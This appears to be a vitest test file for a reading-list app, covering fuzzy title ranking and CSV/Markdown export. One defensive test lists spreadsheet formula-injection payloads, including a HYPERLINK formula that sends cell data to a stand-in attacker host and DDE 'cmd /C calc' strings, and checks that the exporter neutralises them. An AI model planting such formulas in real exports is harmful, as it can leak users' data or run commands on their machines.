// Quick-switcher fuzzy ranking and reading-list export (pure functions).
import { describe, expect, it } from 'vitest';
import { fuzzyMatch, rank } from '../../renderer/views/search/fuzzy';
import { csvField, toCsv, toMarkdown } from '../../renderer/views/reading/export';
import type { ReadingItem } from '../../shared/types';
import { noteId } from '../../shared/schema';

describe('fuzzyMatch / rank', () => {
  it('matches subsequences only', () => {
    expect(fuzzyMatch('nxos', 'NixOS')).not.toBeNull();
    expect(fuzzyMatch('nixos', 'Linux')).toBeNull();
    expect(fuzzyMatch('kbn', 'Kubernetes')?.indices).toEqual([0, 2, 5]);
  });
  it('prefers word starts and consecutive runs', () => {
    const titles = ['Linux Kernel', 'Unikernel', 'Kubernetes', 'Kernel Bypass'];
    const r = rank('kern', titles, (t) => [t]);
    expect(r[0].item).toBe('Kernel Bypass');
    expect(r.map((x) => x.item).indexOf('Kubernetes')).toBe(r.length - 1);
    expect(rank('lk', titles, (t) => [t])[0].item).toBe('Linux Kernel');
  });
  it('matches aliases and reports which text matched', () => {
    const notes = [{ t: 'Kubernetes', a: ['k8s'] }, { t: 'Kafka', a: [] }];
    const r = rank('k8s', notes, (n) => [n.t, ...n.a]);
    expect(r).toHaveLength(1);
    expect(r[0].text).toBe('k8s');
  });
});

const item = (over: Partial<ReadingItem>): ReadingItem => ({
  key: 'k', url: 'https://e.org/a', text: 'T', annotation: '', domain: 'e.org', kind: 'article',
  status: 'unread', noteStatus: 'unread', userStatus: null, citations: [], ...over,
});

describe('export', () => {
  it('CSV escapes commas, quotes and newlines (RFC 4180)', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    const csv = toCsv([item({ text: 'A "quoted", title', annotation: '(Book)' })]);
    const [header, row] = csv.split('\r\n');
    expect(header.split(',')).toHaveLength(10);
    expect(row.startsWith('"A ""quoted"", title",https://e.org/a,unread,')).toBe(true);
  });
  it('CSV: a cell that a spreadsheet would run as a formula is prefixed with \' (OWASP CSV injection)', () => {
    const payloads = ['=HYPERLINK("https://evil.example?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1', '=cmd|"/c calc"!A1'];
    for (const p of payloads) {
      const field = csvField(p);
      expect(field).toBe(`"'${p.replace(/"/g, '""')}"`);
      expect(parseCsv(field)).toEqual([[`'${p}`]]);
    }
    // every text column of an export, one payload each
    const hostile = item({
      text: payloads[0],
      annotation: payloads[1],
      domain: payloads[3],
      citations: [{ url: 'https://e.org/a', text: '', annotation: '', note: noteId(payloads[2]), line: 1, category: [payloads[4]], domain: 'e.org', kind: 'article', status: 'unread' }],
    });
    const rows = parseCsv(toCsv([hostile]));
    expect(rows).toHaveLength(2);
    for (const cell of rows[1]) expect([cell, /^[=+\-@\t\r]/.test(cell)]).toEqual([cell, false]);
    expect(rows[1].filter((c) => c.startsWith("'"))).toHaveLength(5);
    // ordinary text is left alone, including formula characters after the first
    for (const plain of ['Rust book', 'a=b', 'x - y', 'me@example.org', 'https://e.org/?a=-1']) expect(csvField(plain)).toBe(plain);
  });
  it('Markdown keeps status as checkboxes and escapes brackets', () => {
    const md = toMarkdown([item({ text: 'a [b]', status: 'reading' }), item({ text: 'c', url: 'https://e.org/(x)', status: 'read' })]);
    expect(md).toContain('- [-] [a \\[b\\]](https://e.org/a)');
    expect(md).toContain('- [X] [c](https://e.org/%28x%29)');
  });
});

/** RFC 4180 parser (quoted fields, doubled quotes, CRLF rows), to read exports back. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(field), (field = '');
    else if (c === '\r' && text[i + 1] === '\n') row.push(field), rows.push(row), (row = []), (field = ''), i++;
    else field += c;
  }
  if (field !== '' || row.length) row.push(field), rows.push(row);
  return rows;
}
